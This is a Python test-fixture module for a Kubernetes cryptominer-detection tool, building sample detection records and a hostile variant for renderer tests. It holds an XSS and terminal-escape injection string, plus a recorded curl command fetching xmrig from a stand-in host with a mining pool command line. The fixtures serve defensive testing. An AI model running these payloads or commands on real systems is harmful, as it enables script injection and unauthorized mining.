"""MinerDetections for the report tests: a full investigation, a partial one, none, hostile data.

The integration tests (the CLI against the emulator, the page in Chromium) use the same
objects, so every layer renders the incident the unit tests checked.
"""

from __future__ import annotations

from typing import Any

from minerguard.api.detection import MinerDetection

IMAGE_BUILT = "2026-08-01T10:00:00Z"
SUSPECT_LAYER = "2026-11-20T09:00:00Z"
ADMITTED = "2026-11-23T07:40:00Z"
EXEC = "2026-11-23T07:43:10Z"
SHELL_START = "2026-11-23T07:43:12Z"
CURL_START = "2026-11-23T07:43:15Z"
OBSERVED = "2026-11-23T07:43:29Z"
RECORDED = "2026-11-23T07:43:30Z"
ACTED = "2026-11-23T07:43:31Z"

HOSTILE = (
    '</style></title></svg><script>alert("x")</script>'
    '<img src="http://example.invalid/h.png" onerror="alert(1)">'
    "<a href='https://example.invalid/'>x</a>"
    '<style>body{background:url("http://example.invalid/bg.png")}</style>'
    "<!-- --><![CDATA[ ]]>&amp;\x1b]0;owned\x07\x1b[2J\u202etxt.exe\r\nFAKE: line\ud800"
)
"""A string that tries every way out of a text node, an attribute, a style or a terminal."""


def detection_document(
    *, investigation: dict[str, Any] | None = None, name: str = "web-7f9c-exec-x1"
) -> dict[str, Any]:
    """A MinerDetection as the cluster holds it (camelCase), with ``investigation`` in status."""
    status: dict[str, Any] = {
        "phase": "Acted",
        "action": "DeletePod, StopOwner",
        "actionsTaken": ["DeletePod: grace 0s", "StopOwner: Deployment/web scaled 3->0"],
        "actedAt": ACTED,
        "occurrences": 1,
    }
    if investigation is not None:
        status["investigation"] = investigation
    return {
        "apiVersion": "minerguard.io/v1alpha1",
        "kind": "MinerDetection",
        "metadata": {"name": name, "namespace": "shop", "creationTimestamp": RECORDED},
        "spec": {
            "podName": "web-7f9c-abcde",
            "podUID": "0d6c9c1e-1111-2222-3333-444455556666",
            "container": "web",
            "node": "worker-2",
            "image": "registry.example.com/shop/web:1.4",
            "imageDigest": "sha256:" + "ab" * 32,
            "owner": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "web"},
            "layer": "Exec",
            "score": 2.5,
            "reasons": [
                {"signal": "binary-name", "detail": "xmrig", "weight": 1.5},
                {"signal": "pool-url", "detail": "stratum+tcp://pool.example:3333"},
            ],
            "evidence": {
                "pid": 4242,
                "executable": "/tmp/.x/xmrig",
                "commandLine": "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u WALLET",
                "containerID": "containerd://abc",
                "cpuFraction": 0.97,
                "connections": [
                    {"remoteAddress": "127.0.0.9", "remotePort": 3333, "host": "pool.example"}
                ],
                "lineage": [
                    {
                        "pid": 4240,
                        "executable": "/usr/bin/curl",
                        "commandLine": "curl -so /tmp/.x/xmrig http://dl.example/xmrig",
                        "startedAt": CURL_START,
                    },
                    {
                        "pid": 4200,
                        "executable": "/bin/sh",
                        "commandLine": "sh",
                        "startedAt": SHELL_START,
                    },
                ],
                "entry": "Exec",
                "executableOrigin": "Downloaded",
                "downloadedBy": "curl",
            },
            "policy": "default",
            "mode": "Enforce",
            "actionsRequested": ["DeletePod", "StopOwner"],
            "observedAt": OBSERVED,
        },
        "status": status,
    }


def full_investigation() -> dict[str, Any]:
    """Every part filled: our image with a suspect layer, an exec session, doors, a checklist."""
    return {
        "state": "Complete",
        "origin": "Runtime",
        "via": "Exec",
        "summary": (
            "alice ran `kubectl exec` into shop/web-7f9c-abcde at 07:43:10 and started a shell "
            "that downloaded xmrig with curl; the image is ours and does not contain it."
        ),
        "startedAt": "2026-11-23T07:43:30Z",
        "completedAt": "2026-11-23T07:43:33Z",
        "image": {
            "image": "registry.example.com/shop/web:1.4",
            "registry": "registry.example.com",
            "repository": "shop/web",
            "digest": "sha256:" + "ab" * 32,
            "trusted": True,
            "trustedBy": "registry.example.com/shop/",
            "created": IMAGE_BUILT,
            "labels": {
                "org.opencontainers.image.source": "https://git.example.com/shop/web",
                "org.opencontainers.image.revision": "4f2a9c1",
            },
            "history": [
                {"created": IMAGE_BUILT, "createdBy": "/bin/sh -c #(nop) ADD file:base in /"},
                {"created": IMAGE_BUILT, "createdBy": "RUN pip install -r requirements.txt"},
                {
                    "created": SUSPECT_LAYER,
                    "createdBy": "COPY helper /usr/local/bin/helper",
                    "suspect": True,
                },
            ],
            "tags": ["1.4", "latest"],
            "tagsChecked": 12,
            "tagsComplete": True,
            "executable": "Downloaded",
            "downloadedBy": "curl",
            "basis": ["Registry", "Agent"],
            "confidence": "Certain",
        },
        "provenance": {
            "via": "Exec",
            "workloadCreatedBy": {
                "username": "ci-deployer",
                "groups": ["system:authenticated"],
                "operation": "CREATE",
                "time": ADMITTED,
                "basis": "Stamp",
            },
            "podCreatedBy": {
                "username": "system:serviceaccount:kube-system:replicaset-controller",
                "time": ADMITTED,
                "basis": "Admission",
            },
            "execSession": {
                "username": "alice",
                "groups": ["dev", "system:authenticated"],
                "time": EXEC,
                "container": "web",
                "command": ["sh"],
                "tty": True,
                "stdin": True,
                "allowed": True,
                "event": "web-7f9c-abcde.exec-1",
            },
            "basis": ["ExecTrace", "Agent"],
            "confidence": "Certain",
        },
        "restartPaths": [
            {
                "kind": "Deployment",
                "name": "web",
                "namespace": "shop",
                "relation": "owner",
                "state": "Stopped",
                "response": "scaled 3->0",
                "remedy": "kubectl -n shop rollout restart deployment/web after rotating",
            },
            {
                "kind": "RegistryTag",
                "name": "registry.example.com/shop/web:latest",
                "relation": "registry-tag",
                "state": "Active",
                "remedy": "crane delete registry.example.com/shop/web:latest",
            },
        ],
        "entryPoints": [
            {
                "kind": "Service",
                "name": "web-public",
                "detail": "type LoadBalancer exposes port 8080 to the internet",
                "severity": "High",
                "remedy": (
                    'kubectl -n shop patch svc web-public -p \'{"spec":{"type":"ClusterIP"}}\''
                ),
            },
            {
                "kind": "AnonymousBinding",
                "name": "ClusterRoleBinding/anon-view",
                "detail": "system:anonymous may get pods cluster-wide",
                "severity": "High",
                "remedy": "kubectl delete clusterrolebinding anon-view",
                "basis": "API",
            },
        ],
        "checklist": [
            {"item": "Instances removed", "state": "Done", "detail": "pod deleted"},
            {"item": "Registry tags removed", "state": "Open", "detail": "latest still points"},
            {"item": "Credentials rotated: alice", "state": "Open"},
        ],
        "timeline": [
            {"time": ADMITTED, "kind": "Admission", "detail": "pod admitted", "actor": "ci"},
            {"time": EXEC, "kind": "ExecSession", "detail": "kubectl exec sh", "actor": "alice"},
            {"time": OBSERVED, "kind": "Detection", "detail": "Exec layer: xmrig"},
        ],
        "unknowns": ["managedFields were not readable: the pod is gone"],
        "cost": {"apiCalls": 9, "registryCalls": 4, "cached": False},
    }


def partial_investigation() -> dict[str, Any]:
    """What an operator writes when the registry timed out: no image part, one unknown."""
    return {
        "state": "Partial",
        "origin": "Unknown",
        "via": "Apply",
        "summary": "Started by a workload; the registry did not answer in time.",
        "unknowns": ["registry.example.com timed out after 5s"],
    }


def detection(investigation: dict[str, Any] | None = None) -> MinerDetection:
    """The document as the model the renderers take."""
    return MinerDetection.model_validate(detection_document(investigation=investigation))


TIME_KEYS = frozenset(
    {"time", "created", "startedAt", "completedAt", "observedAt", "actedAt", "creationTimestamp"}
)


def hostile_document(investigation: dict[str, Any] | None = None) -> dict[str, Any]:
    """The document with :data:`HOSTILE` in every free-text field, label keys included.

    Each string leaf is replaced where the model still accepts the result (enums and literals
    keep their values), times stay readable so the timeline still draws the hostile labels.
    """
    document = detection_document(investigation=investigation)
    for path in list(_string_leaves(document)):
        parent, key = _parent(document, path)
        original = parent[key]
        parent[key] = HOSTILE
        try:
            MinerDetection.model_validate(document)
        except ValueError:
            parent[key] = original
    labels = ((document["status"].get("investigation") or {}).get("image") or {}).get("labels")
    if isinstance(labels, dict):
        labels[HOSTILE] = HOSTILE
    return document


def _string_leaves(value: object, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    if isinstance(value, dict):
        return [
            leaf
            for key, item in value.items()
            if key not in TIME_KEYS
            for leaf in _string_leaves(item, (*path, key))
        ]
    if isinstance(value, list):
        return [
            leaf
            for index, item in enumerate(value)
            for leaf in _string_leaves(item, (*path, index))
        ]
    return [path] if isinstance(value, str) else []


def _parent(document: Any, path: tuple[str | int, ...]) -> tuple[Any, str | int]:
    for step in path[:-1]:
        document = document[step]
    return document, path[-1]
